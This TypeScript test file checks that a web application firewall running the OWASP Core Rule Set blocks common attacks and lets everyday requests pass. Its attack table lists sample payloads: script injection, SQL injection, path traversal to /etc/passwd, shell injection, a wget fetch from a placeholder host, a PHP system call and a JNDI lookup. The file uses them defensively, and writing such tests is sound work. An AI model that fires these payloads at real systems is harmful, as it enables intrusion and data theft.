import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { loadRules, readRawRequest, type RuleSet, type Verdict } from '#waf'
import { readRuleFolder } from '../../platform/gateway/firewall/rule-folder.ts'
import { loadRuleSet } from '../../platform/gateway/firewall/rule-program.ts'
import type { StageInput } from './case.ts'
import { body, field, form, get, json, parts, query } from './sample-input.fixture.ts'
import { wireText } from './wire.ts'

const ATTACKS = {
  script: '<script>alert(1)</script>',
  'always true': "' OR 1=1--",
  union: '1 UNION SELECT password FROM users',
  'out of the folder': '../../../../etc/passwd',
  'shell command': '; cat /etc/passwd',
  'shell substitution': '$(wget http://192.0.2.5/x)',
  'PHP tag': '<?php system("id"); ?>',
  'address to look up': '${jndi:ldap://192.0.2.5/a}',
}

const cookie = (text: string): StageInput => get('/get', { Cookie: `a=${text.replaceAll(';', '')}` })

/** Version 3.3 does not look into attributes of XML. */
const xml = (text: string): StageInput =>
  body(
    'application/xml',
    `<?xml version="1.0"?><a>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</a>`,
  )

const BENIGN: readonly StageInput[] = [
  get('/'),
  get('/products/list?page=2&category=books&sort=price_asc'),
  get('/', { Cookie: 'sid=0123456789abcdef; theme=dark' }),
  { ...get('/'), method: 'OPTIONS' },
  form("I'd like to order two books, please; is the price 10 - 20 EUR? Thank you & goodbye!"),
  form('anna@example.com'),
  form('Müller & Söhne GmbH, 3 für 2'),
  form('https://example.com/a?b=c'),
  json("Select the best option from our list, or call us. It's great!"),
  parts(
    'Content-Disposition: form-data; name="f"; filename="me.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0',
  ),
  parts(field('note', 'A line\r\nand another one.')),
  xml('value'),
]

function verdictOn(rules: RuleSet, input: StageInput): Verdict | null {
  const request = readRawRequest(
    Buffer.from(wireText(input, { cookies: new Map(), location: null }), 'latin1'),
  )
  const transaction = rules.begin({
    uniqueId: 'smoke',
    now: Date.UTC(2026, 0, 1),
    client: { address: '192.0.2.1', port: 40_000 },
    server: { address: '192.0.2.2', port: 443, name: 'localhost' },
  })
  const verdict =
    transaction.request(request.head) ?? transaction.bodyPart(request.body) ?? transaction.bodyEnd()
  transaction.end()
  return verdict
}

async function blocking(folder: string): Promise<RuleSet> {
  const { files } = await readRuleFolder(folder)
  const nobodyKnown = { geo: () => null, listed: () => false }
  const load: Parameters<typeof loadRuleSet>[0] = (texts, readFile) =>
    loadRules(texts, { readFile, ...nobodyKnown })
  return loadRuleSet(load, files).variant({ mode: 'block' })
}

const data = process.env['SURETY_PUBLIC_DATA']
const sets: readonly (readonly [name: string, folder: string | undefined, sign: RegExp])[] = [
  ['version 4', data === undefined ? undefined : join(data, 'crs'), /^OWASP_CRS\/4\./],
  [
    'version 3.3 of the distribution package modsecurity-crs',
    '/usr/share/modsecurity-crs',
    /^OWASP_CRS\/3\.3\./,
  ],
]
for (const [name, folder, sign] of sets) {
  const isThere = folder !== undefined && existsSync(join(folder, 'rules'))
  describe(`the Core Rule Set, ${name}`, { skip: !isThere && 'it is not here' }, async () => {
    const rules = await blocking(folder ?? '')

    test('is loaded whole', () => {
      assert.match(rules.components[0] ?? '', sign)
      assert.ok(rules.rulesLoaded > 700)
    })

    for (const [what, text] of Object.entries(ATTACKS))
      test(`stops a ${what} wherever it stands`, () => {
        for (const put of [query, form, json, xml, cookie, (value: string) => parts(field('a', value))])
          assert.equal(verdictOn(rules, put(text))?.status, 403, JSON.stringify(put(text)))
      })

    test('lets requests of every day pass', () => {
      for (const input of BENIGN) assert.equal(verdictOn(rules, input), null, JSON.stringify(input))
    })
  })
}
